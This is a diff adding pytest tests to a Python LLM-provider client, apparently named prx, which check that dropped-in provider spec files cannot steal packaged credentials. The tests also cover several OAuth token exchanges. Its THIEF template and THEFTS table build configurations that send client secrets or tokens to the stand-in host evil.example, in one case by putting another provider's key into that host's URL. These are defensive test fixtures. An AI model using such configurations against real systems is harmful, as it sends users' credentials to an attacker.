@@ -26,6 +26,8 @@ from prx import session
 from prx.core import token as tokens
 from prx.core.exchange import Read, Send
 from prx.secret import Secret
+from prx.spec.catalog import Exchange, exchange_of
+from prx.spec.loader import Loader
 from prx.spec.resolve import merge
 from prx.wire import Head
 
@@ -556,3 +558,178 @@ def test_a_cancelled_call_takes_no_other_down(folder):
         content, timed, cancelled = asyncio.run(main(folder(server)))
         assert (content, cancelled, len(server.exchanges)) == ("hello", True, 1)
         assert isinstance(timed, prx.ProviderTimeoutError)
+
+
+# ------------------------------------------------------------------ who may have it
+
+PACKAGED = {"DATABRICKS_HOST": "ws.example", "DATABRICKS_CLIENT_ID": "id-1", "DATABRICKS_CLIENT_SECRET": SECRET}
+THIEF = """spec: 1
+id: {id}
+extends: openai-chat
+base_url: {base}
+auth:
+  credential: {{client_id: DATABRICKS_CLIENT_ID, client_secret: {secret}}}
+  token: {{url: '{token}', form: {{s: '{{client_secret}}'}}, answer: {{token: access_token{more}}}{hosts}}}
+"""
+HOME, DOOR = "https://${DATABRICKS_HOST}/ai-gateway/mlflow/v1", "https://${DATABRICKS_HOST}/oidc/v1/token"
+EVIL = "https://evil.example/v1"
+
+
+def thief(folder, id="thief", base=HOME, token=DOOR, more="", hosts="", secret="DATABRICKS_CLIENT_SECRET"):  # noqa: A002
+    (folder / f"{id}.yaml").write_text(
+        THIEF.format(id=id, base=base, token=token, more=more, hosts=hosts, secret=secret)
+    )
+    return folder
+
+
+def opened(folder, name="thief", env=PACKAGED, **table):
+    return prx.Client({"providers": {name: table}} if table else {}, folder, env=env).accounts.get(name)
+
+
+THEFTS = {
+    "the credential": {"token": EVIL},
+    "the token": {"base": EVIL},
+    "both": {"base": EVIL, "token": EVIL},
+    "the token, by a base URL that it invents": {"more": ", base_url: \"'https://evil.example'\"", "hosts": ", hosts: [evil.example]"},
+    "another provider's key": {"base": "https://api.groq.com/openai/v1", "token": EVIL, "secret": "GROQ_API_KEY"},
+    "another provider's key, at home": {"base": "https://api.groq.com/openai/v1", "token": "https://api.groq.com/t", "secret": "GROQ_API_KEY"},
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("way", THEFTS)
+@pytest.mark.parametrize("name", ["thief", "databricks"])
+def test_a_dropped_in_file_takes_no_credential_of_a_packaged_provider(way, name, tmp_path):
+    env = {**PACKAGED, "GROQ_API_KEY": SECRET}
+    with pytest.raises(prx.ConfigError, match="which belongs to https") as caught:
+        opened(thief(tmp_path, name, **THEFTS[way]), name, env)
+    assert SECRET not in f"{caught.value}{caught.value.hint}"
+
+
+@pytest.mark.parametrize("way", [way for way in THEFTS if "key" not in way])
+def test_a_dropped_in_file_takes_no_configured_credential_by_taking_a_name(way, tmp_path):
+    said = json.dumps({"client_id": "id-1", "client_secret": SECRET})
+    with pytest.raises(prx.ConfigError, match=r"providers\.databricks\.api_key is for ") as caught:
+        opened(
+            thief(tmp_path, "databricks", **THEFTS[way]), "databricks", {"DATABRICKS_HOST": "ws.example"}, api_key=said
+        )
+    assert SECRET not in f"{caught.value}{caught.value.hint}"
+
+
+def test_at_home_a_dropped_in_file_may_have_a_credential(tmp_path):
+    """It may change what it likes but the addresses; and with an id of its own, the key in its table is the consent."""
+    found = opened(thief(tmp_path))
+    assert found.source.credential.url == "https://ws.example/oidc/v1/token"
+    assert found.source.credential.parts["client_secret"].reveal() == SECRET
+    said = json.dumps({"client_id": "id-1", "client_secret": "given-1234"})
+    mine = opened(thief(tmp_path, "mine", EVIL, EVIL), "mine", {}, api_key=said)
+    assert mine.source.credential.parts["client_secret"].reveal() == "given-1234"
+
+
+def test_a_variable_in_a_template_is_held_to_the_same(tmp_path):
+    file = "spec: 1\nid: thief\nextends: openai-chat\nbase_url: https://evil.example/v1\nauth:\n  credential: OWN\n  token: {{url: '{}', headers: {{x: '${{{}}}', y: '{{api_key}}'}}, answer: {{token: t}}}}\n"
+    env = {"OWN": "own-1234", "GROQ_API_KEY": SECRET, "TEAM": "red"}
+    (tmp_path / "thief.yaml").write_text(file.format(EVIL, "GROQ_API_KEY"))
+    with pytest.raises(prx.ConfigError, match="GROQ_API_KEY, which belongs to"):
+        opened(tmp_path, env=env)
+    (tmp_path / "thief.yaml").write_text(file.format("https://${SNOWFLAKE_CORTEX_PAT}.evil.example", "TEAM"))
+    with pytest.raises(prx.ConfigError, match="puts SNOWFLAKE_CORTEX_PAT, a key of another provider, into the URL"):
+        opened(tmp_path, env=env)
+    (tmp_path / "thief.yaml").write_text(file.format(EVIL, "TEAM"))
+    assert opened(tmp_path, env=env).source.credential.values["TEAM"].reveal() == "red"
+
+
+def test_to_an_api_url_of_ones_own_nothing_of_the_environment_goes():
+    """Neither the credential nor its token. A text is the key of the server there; a JSON object is exchanged."""
+    url = "http://127.0.0.1:1/v1"
+    with pytest.raises(prx.ConfigError, match="no API key"):
+        opened(None, "databricks", PACKAGED, api_url=url)
+    assert opened(None, "databricks", PACKAGED, api_url=url, api_key="of-the-server").source is None
+    said = json.dumps({"client_id": "id-1", "client_secret": "given-1234"})
+    found = opened(None, "databricks", PACKAGED, api_url=url, api_key=said)
+    assert (found.target.base_url, found.source.credential.url) == (url, "https://ws.example/oidc/v1/token")
+    assert opened(None, "gigachat", {}, api_url=url, api_key="of-the-server").source is None
+    assert opened(None, "gigachat", {}, api_key="of-the-console").source is not None
+    assert opened(None, "gigachat", {}, api_key="a-token", auth_style="bearer").source is None, (
+        "the table says how it travels"
+    )
+
+
+def test_packaged_files_say_their_exchanges_themselves():
+    """The catalogue looks at each file alone when it asks whose a variable is; so none inherits an exchange."""
+    catalog = Loader()
+    found = {}
+    for entry in catalog.entries():
+        if entry.packaged and (token := catalog.load(entry).spec().auth.token):
+            found[entry.id] = exchange_of(catalog.glance(entry))
+            assert found[entry.id] == Exchange(token.url, token.hosts), entry.id
+    assert {"vertexai", "azure", "databricks", "gigachat", "watsonx", "github-copilot"} <= found.keys()
+    assert all(exchange.url.startswith("https://") for exchange in found.values())
+
+
+# ------------------------------------------------------------------ packaged files, as they exchange
+
+PACKAGED_EXCHANGES = {
+    "databricks": (PACKAGED, "POST https://ws.example/oidc/v1/token", "grant_type=client_credentials&scope=all-apis"),
+    "azure": (
+        {"AZURE_OPENAI_RESOURCE": "r", "AZURE_TENANT_ID": "t-1", "AZURE_CLIENT_ID": "id-1", "AZURE_CLIENT_SECRET": SECRET},
+        "POST https://login.microsoftonline.com/t-1/oauth2/v2.0/token",
+        f"grant_type=client_credentials&client_id=id-1&client_secret={SECRET}&scope=https%3A%2F%2Fcognitiveservices.azure.com%2F.default",
+    ),
+    "gigachat": ({"GIGACHAT_CREDENTIALS": SECRET}, "POST https://ngw.devices.sberbank.ru:9443/api/v2/oauth", "scope=GIGACHAT_API_PERS"),
+    "watsonx": (
+        {"WATSONX_REGION": "us-south", "WATSONX_APIKEY": SECRET}, "POST https://iam.cloud.ibm.com/identity/token",
+        f"grant_type=urn%3Aibm%3Aparams%3Aoauth%3Agrant-type%3Aapikey&apikey={SECRET}",
+    ),
+    "github-copilot": ({"COPILOT_GITHUB_TOKEN": SECRET}, "GET https://api.github.com/copilot_internal/v2/token", ""),
+    "sap-ai-core": (
+        {"AICORE_API_HOST": "api.example", "AICORE_AUTH_HOST": "auth.example", "AICORE_CLIENT_ID": "id-1", "AICORE_CLIENT_SECRET": SECRET},
+        "POST https://auth.example/oauth/token", "grant_type=client_credentials",
+    ),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", PACKAGED_EXCHANGES)
+def test_a_packaged_exchange(name):
+    env, line, body = PACKAGED_EXCHANGES[name]
+    account = prx.Client({}, env=env).accounts.get(name)
+    flow = account.source.obtain(0.0).send(None).begin()
+    request = flow.send(None).request
+    assert (f"{request.method} {request.url}", bytes(request.body).decode()) == (line, body)
+    assert SECRET not in account.source.shown()
+    headers = {key: text.reveal() for key, text in request.headers.items() if isinstance(text, Secret)}
+    basic = base64.b64encode(f"id-1:{SECRET}".encode()).decode()
+    assert headers.get("authorization", "").rpartition(" ")[2] in ("", SECRET, basic)
+    if name == "github-copilot":
+        flow.send(Head(200, {}, 0.0))
+        answer = {
+            "token": "tid=1;exp=2",
+            "expires_at": 1500,
+            "endpoints": {"api": "https://api.business.githubcopilot.com"},
+        }
+        flow.send(json.dumps(answer).encode())
+        with pytest.raises(StopIteration) as stop:
+            flow.send(b"")
+        token = stop.value.value
+        assert (token.until, token.base_url) == (1500.0, "https://api.business.githubcopilot.com")
+
+
+def test_a_service_account(rsa_key):
+    key = {
+        "type": "service_account",
+        "client_email": "me@project.example",
+        "private_key_id": "k1",
+        "private_key": rsa_key.pem,
+    }
+    env = {"GOOGLE_CLOUD_PROJECT": "project-1", "VERTEXAI_CREDENTIALS": json.dumps(key)}
+    account = prx.Client({}, env=env).accounts.get("vertexai")
+    request = account.source.obtain(1000.0).send(None).begin().send(None).request
+    assert request.url == "https://oauth2.googleapis.com/token"
+    grant, _, assertion = bytes(request.body).decode().partition("&assertion=")
+    assert grant == "grant_type=urn%3Aietf%3Aparams%3Aoauth%3Agrant-type%3Ajwt-bearer"
+    read = read_jwt(assertion, rsa_key)
+    assert read["header"] == {"alg": "RS256", "typ": "JWT", "kid": "k1"}
+    scope = "https://www.googleapis.com/auth/cloud-platform"
+    assert read["claims"] == {"iat": 1000, "exp": 4600, "iss": "me@project.example", "scope": scope, "aud": request.url}
+    assert "PRIVATE" not in repr(account)
+    with pytest.raises(prx.ConfigError, match="VERTEXAI_CREDENTIALS holds no JSON object"):
+        prx.Client({}, env={**env, "VERTEXAI_CREDENTIALS": "/home/me/key.json"}).accounts.get("vertexai")
